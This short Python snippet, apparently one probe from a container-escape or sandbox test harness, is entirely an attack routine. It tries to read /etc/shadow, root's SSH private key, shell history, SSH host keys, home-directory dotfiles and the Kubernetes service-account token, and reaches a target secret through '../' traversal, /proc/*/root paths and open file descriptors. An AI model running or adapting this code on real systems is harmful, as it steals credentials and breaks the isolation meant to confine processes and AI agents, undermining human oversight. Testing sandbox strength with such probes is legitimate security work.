"""Reads passwords, keys and a file of the host that is open to everybody, by every path that might lead there."""

import glob
import os

SECRETS = ["/etc/shadow", "/etc/passwd", "/etc/hosts", "/etc/machine-id", "/root/.ssh/id_rsa", "/root/.bash_history"]
SECRETS += [*glob.glob("/etc/ssh/*"), *glob.glob("/home/*/.*"), "/var/run/secrets/kubernetes.io/serviceaccount/token"]
path = TARGET["secret"]
up = "../" * 30
ways = [path, f"{up}{path}", f"/proc/self/root{path}", f"/proc/1/root{path}", f"/proc/self/cwd/{up}{path}"]
ways += [f"/proc/{pid}/root{path}" for pid in os.listdir("/proc") if pid.isdigit()]
for way in [*SECRETS, *ways]:
    attempt(way, lambda way=way: read(way).decode(errors="replace"))
for number in range(64):
    if os.path.exists(f"/proc/self/fd/{number}"):
        attempt(f"file {number}", lambda number=number: read(f"/proc/self/fd/{number}/{up}{path}").decode())
